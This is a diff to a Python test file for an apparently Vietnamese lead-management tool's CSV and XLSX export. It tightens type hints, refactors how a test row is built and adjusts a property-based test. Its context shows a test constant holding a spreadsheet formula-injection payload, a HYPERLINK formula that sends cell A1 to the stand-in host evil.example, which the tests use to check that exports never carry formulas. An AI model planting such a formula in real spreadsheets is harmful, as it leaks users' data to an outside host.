@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import io
 from datetime import datetime, timedelta
+from typing import Any
 from zoneinfo import ZoneInfo
 
 from hypothesis import given, settings
@@ -60,7 +61,7 @@ EN_HEADERS = [
 INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 
 
-def _assigned_lead(**fields: object) -> Lead:
+def _assigned_lead(**fields: Any) -> Lead:
     first = Touch(utm_source="facebook", utm_campaign="tet-2027", fbclid="IwAR0abc", at=NOW)
     return lead(
         name=fields.pop("name", "Trần Thị Bình"),
@@ -81,7 +82,7 @@ def _assigned_lead(**fields: object) -> Lead:
     )
 
 
-def _row(language: str = "vi", **fields: object) -> list[Cell]:
+def _row(language: str = "vi", **fields: Any) -> list[Cell]:
     x = _assigned_lead(**fields)
     return lead_row(x, "Nguyễn Văn A", history_summary(x, SAIGON, language), SAIGON, language)  # type: ignore[arg-type]
 
@@ -176,7 +177,8 @@ def test_the_xlsx_keeps_phones_as_text_dates_as_dates_and_never_a_formula() -> N
 
 def test_a_phone_with_a_leading_zero_stays_text_in_xlsx() -> None:
     # Given a phone kept as typed with its leading 0 (a cell that is only text to the writers)
-    content = _xlsx([["L1", "An", Phone("0912345678")] + [None] * (len(COLUMNS) - 3)])
+    row: list[Cell] = ["L1", "An", Phone("0912345678"), *[None] * (len(COLUMNS) - 3)]
+    content = _xlsx([row])
     cell = load_workbook(io.BytesIO(content))["Leads"]["C2"]
     # Then Excel reads it as the text "0912345678", not the number 912345678
     assert (cell.data_type, cell.value) == ("s", "0912345678")
@@ -226,7 +228,7 @@ def test_the_english_csv_has_the_english_headers_and_labels() -> None:
     assert dict(zip(header, row, strict=True))["Status"] == "Assigned"
 
 
-@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",))))
+@given(st.text(alphabet=st.characters(codec="utf-8")))  # surrogates cannot be UTF-8
 def test_no_csv_text_cell_starts_a_formula_and_each_reads_back_as_written(text: str) -> None:
     # Given any text in a cell (commas, quotes, line breaks, formula starts, Vietnamese)
     content = _csv([[text, "x"]], "en")
